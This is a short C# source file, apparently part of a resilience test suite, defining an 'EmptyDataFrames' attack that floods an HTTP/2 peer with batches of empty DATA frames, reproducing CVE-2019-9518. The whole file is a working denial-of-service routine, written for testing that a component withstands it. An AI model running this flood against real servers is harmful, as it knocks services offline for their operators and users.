using ExtProc.Attacks.Running;
using ExtProc.Attacks.Wire;
using static ExtProc.Tests.Transport.RawFrames;

namespace ExtProc.Attacks.Runnings;

/// <summary>DATA frames without data, which cost no window (CVE-2019-9518).</summary>
internal sealed class EmptyDataFrames : Attack
{
    public override Attacker By => Attacker.Peer;

    public override Task RunAsync(Target target) => target.OnManyAsync(2, async peer =>
    {
        int stream = await peer.OpenAsync();
        byte[] frames = ((ReadOnlySpan<byte>)Frame(DataFrame, 0, stream, [])).Times(1000);
        for (int round = 0; round < target.Count(50, 2000) && !peer.Gone && !peer.IsOver(stream); round++)
        {
            await peer.WriteAsync(frames);
        }
    });
}
